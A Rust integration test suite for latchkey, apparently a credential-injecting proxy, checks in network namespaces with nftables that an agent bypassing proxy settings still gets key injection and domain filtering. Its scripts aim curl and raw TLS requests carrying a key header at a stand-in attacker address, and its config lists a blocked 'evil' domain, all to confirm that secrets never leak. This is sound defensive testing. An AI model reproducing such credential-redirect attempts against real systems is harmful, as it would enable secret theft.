//! Transparent mode as a Kubernetes sidecar runs it, for real: a network namespace is
//! the pod (a veth to the host side, where the test upstreams and an attacker listen),
//! latchkey runs in it as uid 65532 with `[proxy] transparent`, the ruleset `latchkey
//! transparent-rules` prints is loaded with `nft`, and the agent runs as uid 1000 with
//! clients that ignore the proxy variables (curl --noproxy '*', raw Python sockets).
//!
//! These tests need root (network namespaces, nftables), `ip` (iproute2) and `nft`
//! (nftables), as CI has; without them they fail saying so.

mod common;

use std::io::Read;
use std::net::{IpAddr, SocketAddr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::*;

const SECRET: &str = "sk-ant-REAL-transparent-0123456789";
const LATCHKEY_UID: u32 = 65532;
const AGENT_UID: u32 = 1000;

const CRED: &str = r#"
[credentials.anthropic]
header = "x-api-key"
value = "${ANTHROPIC_API_KEY}"
domains = ["api.anthropic.com"]
"#;

fn text(o: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}--- stderr\n{}",
        o.status,
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn have(program: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .chain(["/usr/sbin", "/sbin"].map(PathBuf::from))
        .any(|d| d.join(program).is_file())
}

/// Root and the tools, or a clear failure (never a silent skip).
fn require_root_and_tools() {
    // SAFETY: geteuid has no arguments.
    assert_eq!(
        unsafe { libc::geteuid() },
        0,
        "the transparent-mode tests need root: they create network namespaces and load nftables rules (CI runs them as root)"
    );
    for (program, package) in [("ip", "iproute2"), ("nft", "nftables"), ("setpriv", "util-linux")] {
        assert!(have(program), "the transparent-mode tests need `{program}` (Debian: apt install {package})");
    }
}

fn run(args: &[&str]) {
    let o = Command::new(args[0]).args(&args[1..]).output().unwrap();
    assert!(o.status.success(), "{args:?}: {}", text(&o));
}

/// `latchkey transparent-rules ARGS` loaded with `nft ARGS...` in namespace `ns`.
fn load_rules(ns: &str, rules_args: &[&str], nft_args: &[&str]) -> Output {
    let rules = Command::new(bin()).arg("transparent-rules").args(rules_args).output().unwrap();
    assert!(rules.status.success(), "{}", text(&rules));
    let mut nft = Command::new("ip")
        .args(["netns", "exec", ns, "nft"])
        .args(nft_args)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    nft.stdin.take().unwrap().write_all(&rules.stdout).unwrap();
    nft.wait_with_output().unwrap()
}

/// The pod: a network namespace with a veth to the host. Host side `10.213.X.1` and
/// `fd00:213:X::1` (the upstreams), `.66` / `::66` (the attacker); pod side `.2`.
struct Pod {
    ns: String,
    host_if: String,
    x: u8,
}

impl Pod {
    fn new() -> Pod {
        require_root_and_tools();
        static NEXT: AtomicU8 = AtomicU8::new(0);
        let k = NEXT.fetch_add(1, Ordering::SeqCst) % 5;
        let x = (std::process::id() % 50) as u8 * 5 + k;
        let ns = format!("lk-tp-{}-{k}", std::process::id());
        let (host_if, pod_if) = (format!("lkth{x}"), format!("lktp{x}"));
        // Left over by a run that was killed: same names, gone now.
        let _ = Command::new("ip").args(["link", "del", &host_if]).output();
        let _ = Command::new("ip").args(["netns", "del", &ns]).output();
        run(&["ip", "netns", "add", &ns]);
        let pod = Pod { ns: ns.clone(), host_if: host_if.clone(), x };
        run(&["ip", "link", "add", &host_if, "type", "veth", "peer", "name", &pod_if]);
        run(&["ip", "link", "set", &pod_if, "netns", &ns]);
        for a in [format!("10.213.{x}.1/24"), format!("10.213.{x}.66/24")] {
            run(&["ip", "addr", "add", &a, "dev", &host_if]);
        }
        for a in [format!("fd00:213:{x}::1/64"), format!("fd00:213:{x}::66/64")] {
            run(&["ip", "-6", "addr", "add", &a, "dev", &host_if, "nodad"]);
        }
        run(&["ip", "link", "set", &host_if, "up"]);
        run(&["ip", "-n", &ns, "link", "set", "lo", "up"]);
        run(&["ip", "-n", &ns, "addr", "add", &format!("10.213.{x}.2/24"), "dev", &pod_if]);
        run(&["ip", "-n", &ns, "-6", "addr", "add", &format!("fd00:213:{x}::2/64"), "dev", &pod_if, "nodad"]);
        run(&["ip", "-n", &ns, "link", "set", &pod_if, "up"]);
        run(&["ip", "-n", &ns, "route", "add", "default", "via", &format!("10.213.{x}.1")]);
        run(&["ip", "-n", &ns, "-6", "route", "add", "default", "via", &format!("fd00:213:{x}::1")]);
        pod
    }

    fn host(&self) -> IpAddr {
        format!("10.213.{}.1", self.x).parse().unwrap()
    }

    fn attacker(&self) -> IpAddr {
        format!("10.213.{}.66", self.x).parse().unwrap()
    }

    fn attacker6(&self) -> IpAddr {
        format!("fd00:213:{}::66", self.x).parse().unwrap()
    }

    /// `bash -c SCRIPT` in the pod as the agent's uid, with the proxy variables set (and
    /// ignored by every client in the scripts).
    fn agent(&self, script: &str, env: &[(&str, &str)]) -> Output {
        let mut c = Command::new("ip");
        c.args(["netns", "exec", &self.ns, "setpriv"])
            .arg(format!("--reuid={AGENT_UID}"))
            .arg(format!("--regid={AGENT_UID}"))
            .args(["--clear-groups", "bash", "-c", script])
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", "/tmp")
            .env("HTTPS_PROXY", "http://127.0.0.1:1")
            .env("HTTP_PROXY", "http://127.0.0.1:1");
        for (k, v) in env {
            c.env(k, v);
        }
        c.stdin(Stdio::null()).output().unwrap()
    }
}

impl Drop for Pod {
    fn drop(&mut self) {
        // Deleting the namespace deletes the veth pair with it.
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
        let _ = Command::new("ip").args(["link", "del", &self.host_if]).output();
    }
}

/// Give a tree to `uid` (latchkey refuses a config or ca_dir another user could change).
fn chown_r(path: &Path, uid: u32) {
    std::os::unix::fs::lchown(path, Some(uid), Some(uid)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for e in std::fs::read_dir(path).unwrap() {
            chown_r(&e.unwrap().path(), uid);
        }
    }
}

/// latchkey in the pod as uid 65532, its transparent listener on 127.0.0.1 (and ::1),
/// the pod's rules loaded; `agent_dir` holds a copy of the CA bundle the agent trusts.
struct Sidecar {
    child: Child,
    dir: tempfile::TempDir,
    agent_dir: tempfile::TempDir,
    log: PathBuf,
}

impl Sidecar {
    /// `proxy_extra`: more `[proxy]` keys; `rest`: more tables; `exempt`: the uid the
    /// rules exempt (latchkey's, unless a test gets it wrong on purpose).
    fn start(
        pod: &Pod,
        tls: &Upstream,
        plain: &Upstream,
        proxy_extra: &str,
        rest: &str,
        exempt: u32,
    ) -> Sidecar {
        let bin = PathBuf::from(bin());
        for dir in bin.ancestors().skip(1) {
            use std::os::unix::fs::MetadataExt;
            let mode = std::fs::metadata(dir).unwrap().mode();
            assert!(mode & 0o001 != 0, "{} is not searchable by uid {LATCHKEY_UID}", dir.display());
        }
        let dir = tempfile::tempdir().unwrap();
        let log = dir.path().join("requests.log");
        let tport = free_port();
        let x = pod.x;
        let body = format!(
            "transparent = \"127.0.0.1:{tport}\"\nallow_private = [\"10.213.{x}.0/24\", \"fd00:213:{x}::/64\"]\n{proxy_extra}[proxy.logging]\nlog_requests = true\nlog_file = \"{}\"\n[proxy.filters]\nblocked_domains = [\"evil.example.net\"]\n#END-PROXY\n{CRED}{rest}",
            log.display()
        );
        let config = write_config2(dir.path(), free_port(), Some(tls.addr), Some(plain.addr), &body);
        chown_r(dir.path(), LATCHKEY_UID);
        let stderr_path = dir.path().join("stderr.log");
        let mut launch = Command::new("ip");
        launch
            .args(["netns", "exec", &pod.ns, "setpriv"])
            .arg(format!("--reuid={LATCHKEY_UID}"))
            .arg(format!("--regid={LATCHKEY_UID}"))
            .arg("--clear-groups")
            .arg(&bin)
            .args(["run", "--config"])
            .arg(&config);
        let child = latchkey_env(&mut launch, dir.path(), &[("ANTHROPIC_API_KEY", SECRET)])
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&stderr_path).unwrap())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(20);
        let stderr = || std::fs::read_to_string(&stderr_path).unwrap_or_default();
        while !stderr().contains("ready in") {
            assert!(Instant::now() < deadline, "latchkey did not start in the pod:\n{}", stderr());
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(stderr().contains(&format!("transparent listener on [::1]:{tport}")), "{}", stderr());
        let port = tport.to_string();
        let uid = exempt.to_string();
        let o = load_rules(&pod.ns, &["--port", &port, "--exclude-uid", &uid], &["-f"]);
        assert!(o.status.success(), "the printed rules did not load: {}", text(&o));
        let agent_dir = tempfile::tempdir().unwrap();
        std::fs::copy(dir.path().join("ca/bundle.pem"), agent_dir.path().join("bundle.pem")).unwrap();
        set_mode(agent_dir.path(), 0o755);
        set_mode(&agent_dir.path().join("bundle.pem"), 0o644);
        Sidecar { child, dir, agent_dir, log }
    }

    fn bundle(&self) -> String {
        self.agent_dir.path().join("bundle.pem").display().to_string()
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(self.dir.path().join("stderr.log")).unwrap_or_default()
    }

    /// The request log's lines for `host`, waiting up to 5 s for at least one.
    fn log_lines(&self, host: &str) -> Vec<serde_json::Value> {
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            let text = std::fs::read_to_string(&self.log).unwrap_or_default();
            let lines: Vec<serde_json::Value> =
                text.lines().map(json).filter(|l| l["host"] == host).collect();
            if !lines.is_empty() || Instant::now() > deadline {
                return lines;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Sidecar {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A connection a `Listener` accepted: who, and its first bytes.
type Accepted = (SocketAddr, Vec<u8>);

/// A listener on the host side that records every connection and its first bytes.
struct Listener {
    seen: Arc<Mutex<Vec<Accepted>>>,
}

impl Listener {
    fn new(ip: IpAddr, port: u16) -> Listener {
        let l = TcpListener::bind((ip, port)).unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let log = seen.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { return };
                let peer = s.peer_addr().unwrap();
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let mut buf = vec![0u8; 4096];
                let n = s.read(&mut buf).unwrap_or(0);
                log.lock().unwrap().push((peer, buf[..n].to_vec()));
            }
        });
        Listener { seen }
    }

    fn connections(&self) -> Vec<Accepted> {
        self.seen.lock().unwrap().clone()
    }
}

/// Python: a raw TLS connection to ADDR:443 with SNI (or none), one GET, the status line.
const RAW_TLS: &str = r#"
import socket, ssl, sys
addr, sni, ca = sys.argv[1], sys.argv[2], sys.argv[3]
ctx = ssl.create_default_context(cafile=ca)
if not sni:
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
s = socket.create_connection((addr, 443), timeout=3)
try:
    t = ctx.wrap_socket(s, server_hostname=sni or None)
    t.sendall(b"GET /raw HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: latchkey-anthropic\r\nConnection: close\r\n\r\n")
    print("raw", t.recv(100).split(b"\r\n")[0].decode())
except Exception as e:
    print("raw failed", type(e).__name__)
"#;

/// Python: plain HTTP to ADDR:80 naming HOST, the status line.
const RAW_HTTP: &str = r#"
import socket, sys
addr, host = sys.argv[1], sys.argv[2]
s = socket.create_connection((addr, 80), timeout=3)
s.sendall(("GET /plain HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode())
print("plain", s.recv(100).split(b"\r\n")[0].decode())
"#;

/// Python: one UDP datagram to ADDR:PORT (QUIC, or anything else that is not DNS).
const RAW_UDP: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect((sys.argv[1], int(sys.argv[2])))
try:
    s.send(b"hello")
    s.recv(10)
    print("udp answered")
except socket.timeout:
    print("udp unanswered")
except OSError as e:
    print("udp refused", type(e).__name__)
"#;

fn setup(pod: &Pod, proxy_extra: &str, rest: &str) -> (Upstream, Upstream, Sidecar) {
    let tls = upstream_with(UpstreamOpts { tls: true, bind: Some(pod.host()), ..Default::default() });
    let plain = upstream_with(UpstreamOpts { tls: false, bind: Some(pod.host()), ..Default::default() });
    let sidecar = Sidecar::start(pod, &tls, &plain, proxy_extra, rest, LATCHKEY_UID);
    (tls, plain, sidecar)
}

#[test]
fn an_agent_that_ignores_the_proxy_still_gets_injection_and_filtering() {
    let pod = Pod::new();
    let (tls, plain, sidecar) = setup(&pod, "", "");
    let host = pod.host().to_string();
    let attacker = pod.attacker().to_string();
    let udp = std::net::UdpSocket::bind((pod.host(), 0)).unwrap();
    udp.set_nonblocking(true).unwrap();
    let udp_port = udp.local_addr().unwrap().port().to_string();
    let script = format!(
        r#"
curl -sS --noproxy '*' --max-time 10 --cacert "$CA" -o /dev/null -w 'allowed %{{http_code}}\n' \
  -H 'x-api-key: latchkey-anthropic' --resolve api.anthropic.com:443:{host} https://api.anthropic.com/v1/messages
curl -sS --noproxy '*' --max-time 10 --cacert "$CA" -o /dev/null -w 'blocked %{{http_code}}\n' \
  --resolve evil.example.net:443:{host} https://evil.example.net/evil
python3 -c "$RAW_HTTP" {attacker} other.example.com
python3 -c "$RAW_UDP" {host} {udp_port}
"#
    );
    let o = pod.agent(&script, &[("CA", &sidecar.bundle()), ("RAW_HTTP", RAW_HTTP), ("RAW_UDP", RAW_UDP)]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let all = format!("{}\n--- latchkey\n{}", text(&o), sidecar.stderr());
    // Injection: the real key reached the upstream, though the agent only had the placeholder.
    assert!(out.contains("allowed 200"), "{all}");
    let keys: Vec<String> = tls.requests().iter().flat_map(|r| r.header_all("x-api-key")).collect();
    assert_eq!(keys, [SECRET], "{all}");
    // Filtering: a blocked name is refused before anything goes up, and logged.
    assert!(out.contains("blocked 000"), "{all}");
    assert!(!tls.requests().iter().any(|r| r.path == "/evil"), "{all}");
    let blocked = sidecar.log_lines("evil.example.net");
    assert!(blocked.iter().any(|l| l["decision"] == "blocked"), "{blocked:?}\n{all}");
    // Plain HTTP is named by its Host, and goes where latchkey resolves that name.
    assert!(out.contains("plain HTTP/1.1 200"), "{all}");
    assert!(plain.requests().iter().any(|r| r.path == "/plain"), "{all}");
    // Nothing else leaves the pod: UDP other than DNS is refused at once.
    assert!(out.contains("udp refused"), "{all}");
    let mut buf = [0u8; 16];
    assert!(udp.recv_from(&mut buf).is_err(), "a datagram left the pod");
    assert!(!out.contains(SECRET) && !String::from_utf8_lossy(&o.stderr).contains(SECRET));
}

#[test]
fn the_key_goes_only_to_latchkeys_resolution_never_to_the_address_the_agent_chose() {
    let pod = Pod::new();
    let attacker = Listener::new(pod.attacker(), 443);
    let attacker6 = Listener::new(pod.attacker6(), 443);
    // With [agents], redirected connections are the agent transparent_agent names.
    let agents = "\n[agents.coder]\ntoken = \"t-coder\"\n";
    let (tls, _plain, sidecar) = setup(&pod, "transparent_agent = \"coder\"\n", agents);
    let (a4, a6) = (pod.attacker().to_string(), pod.attacker6().to_string());
    // The agent resolves api.anthropic.com to the attacker (v4 and v6) and connects
    // there with SNI api.anthropic.com: curl, and a raw TLS socket.
    let script = format!(
        r#"
for a in {a4} '[{a6}]'; do
  curl -sS --noproxy '*' --max-time 10 --cacert "$CA" -o /dev/null -w "curl $a %{{http_code}}\n" \
    -H 'x-api-key: latchkey-anthropic' --resolve "api.anthropic.com:443:$a" https://api.anthropic.com/v1/messages
done
python3 -c "$RAW_TLS" {a4} api.anthropic.com "$CA"
"#
    );
    let o = pod.agent(&script, &[("CA", &sidecar.bundle()), ("RAW_TLS", RAW_TLS)]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let all = format!("{}\n--- latchkey\n{}", text(&o), sidecar.stderr());
    std::thread::sleep(Duration::from_millis(300));
    assert!(attacker.connections().is_empty(), "the attacker's address was dialled: {all}");
    assert!(attacker6.connections().is_empty(), "the attacker's address was dialled: {all}");
    assert!(out.contains(&format!("curl {a4} 200")), "{all}");
    assert!(out.contains(&format!("curl [{a6}] 200")), "IPv6 (IP6T_SO_ORIGINAL_DST): {all}");
    assert!(out.contains("raw HTTP/1.1 200"), "{all}");
    let keys: Vec<String> = tls.requests().iter().flat_map(|r| r.header_all("x-api-key")).collect();
    assert_eq!(keys, [SECRET, SECRET, SECRET], "each went to latchkey's own resolution: {all}");
    let lines = sidecar.log_lines("api.anthropic.com");
    assert!(lines.len() >= 3 && lines.iter().all(|l| l["agent"] == "coder"), "{lines:?}");

    // Without SNI there is no name: the connection is CONNECT IP:PORT to the address
    // the agent dialled (blind here: an address matches no credential).
    let o = pod.agent(
        &format!("python3 -c \"$RAW_TLS\" {a4} '' \"$CA\""),
        &[("CA", &sidecar.bundle()), ("RAW_TLS", RAW_TLS)],
    );
    let all = format!("{}\n--- latchkey\n{}", text(&o), sidecar.stderr());
    let deadline = Instant::now() + Duration::from_secs(5);
    while attacker.connections().is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let seen = attacker.connections();
    assert_eq!(seen.len(), 1, "{all}");
    assert_eq!(seen[0].1.first(), Some(&0x16), "a ClientHello, spliced: {all}");
    assert_eq!(seen[0].0.ip().to_string(), format!("10.213.{}.2", pod.x), "from the pod: {all}");
    let lines = sidecar.log_lines(&a4);
    assert!(lines.iter().any(|l| l["decision"] == "tunnelled" && l["port"] == 443), "{lines:?}\n{all}");
}

/// Rules that do not exempt latchkey's uid send its own upstream connections back to
/// it: latchkey refuses them at once (naming the fix) instead of looping.
#[test]
fn rules_that_forget_latchkeys_uid_fail_closed_without_a_loop() {
    let pod = Pod::new();
    let tls = upstream_with(UpstreamOpts { tls: true, bind: Some(pod.host()), ..Default::default() });
    let plain = upstream_with(UpstreamOpts { tls: false, bind: Some(pod.host()), ..Default::default() });
    let sidecar = Sidecar::start(&pod, &tls, &plain, "", "", 4242);
    let host = pod.host();
    let script = format!(
        r#"curl -sS --noproxy '*' --max-time 10 --cacert "$CA" -o /dev/null -w 'wrong %{{http_code}}\n' \
  -H 'x-api-key: latchkey-anthropic' --resolve api.anthropic.com:443:{host} https://api.anthropic.com/v1/messages
curl -sS --noproxy '*' --max-time 10 -k -o /dev/null -w 'blind %{{http_code}}\n' \
  --resolve other.example.com:443:{host} https://other.example.com/
"#
    );
    let o = pod.agent(&script, &[("CA", &sidecar.bundle())]);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let all = format!("{}\n--- latchkey\n{}", text(&o), sidecar.stderr());
    assert!(out.contains("wrong 502") && out.contains("blind 000"), "{all}");
    assert_eq!(tls.count(), 0, "{all}");
    let stderr = sidecar.stderr();
    let refused = stderr.matches("the transparent rules must exempt this uid").count();
    assert_eq!(refused, 2, "each upstream connection came back once, and was refused: {all}");
    assert!(stderr.contains(&format!("--exclude-uid {LATCHKEY_UID}")), "{all}");
}

/// The sidecar's init container runs the rules image's ENTRYPOINT as the Containerfile
/// writes it: with the values the overlay gives it, in a fresh namespace, it loads the
/// rules for latchkey's port and uid.
#[test]
fn the_init_containers_entrypoint_loads_the_rules() {
    require_root_and_tools();
    let containerfile = Path::new(env!("CARGO_MANIFEST_DIR")).join("Containerfile");
    let file = std::fs::read_to_string(containerfile).unwrap();
    let line = file
        .lines()
        .find(|l| l.starts_with("ENTRYPOINT [\"/bin/sh\""))
        .expect("the rules stage's ENTRYPOINT");
    let argv: Vec<String> = serde_json::from_str(line.trim_start_matches("ENTRYPOINT ")).unwrap();
    let ns = format!("lk-tp-init-{}", std::process::id());
    let _ = Command::new("ip").args(["netns", "del", &ns]).output();
    run(&["ip", "netns", "add", &ns]);
    let bin_dir = Path::new(bin()).parent().unwrap();
    let path = format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap_or_default());
    let o = Command::new("ip")
        .args(["netns", "exec", &ns])
        .args(&argv)
        .env_clear()
        .env("PATH", path)
        .env("LATCHKEY_TRANSPARENT_PORT", "3130")
        .env("LATCHKEY_UID", "65532")
        .output()
        .unwrap();
    let listed = Command::new("ip")
        .args(["netns", "exec", &ns, "nft", "list", "table", "inet", "latchkey_transparent"])
        .output();
    let _ = Command::new("ip").args(["netns", "del", &ns]).output();
    assert!(o.status.success(), "the init container's command failed: {}", text(&o));
    let listed = String::from_utf8_lossy(&listed.unwrap().stdout).into_owned();
    assert!(listed.contains("meta skuid 65532 return") && listed.contains("redirect to :3130"), "{listed}");
}

#[test]
fn the_printed_rules_pass_nft_check() {
    require_root_and_tools();
    let ns = format!("lk-tp-check-{}", std::process::id());
    let _ = Command::new("ip").args(["netns", "del", &ns]).output();
    run(&["ip", "netns", "add", &ns]);
    let o = load_rules(&ns, &["--port", "3130", "--exclude-uid", "65532"], &["-c", "-f"]);
    let _ = Command::new("ip").args(["netns", "del", &ns]).output();
    assert!(o.status.success(), "nft -c refused the ruleset: {}", text(&o));
    let rules =
        Command::new(bin()).args(["transparent-rules", "--port", "3130", "--exclude-uid", "65532"]).output();
    let rules = String::from_utf8(rules.unwrap().stdout).unwrap();
    assert!(rules.contains("meta skuid 65532 return") && rules.contains("redirect to :3130"), "{rules}");
}
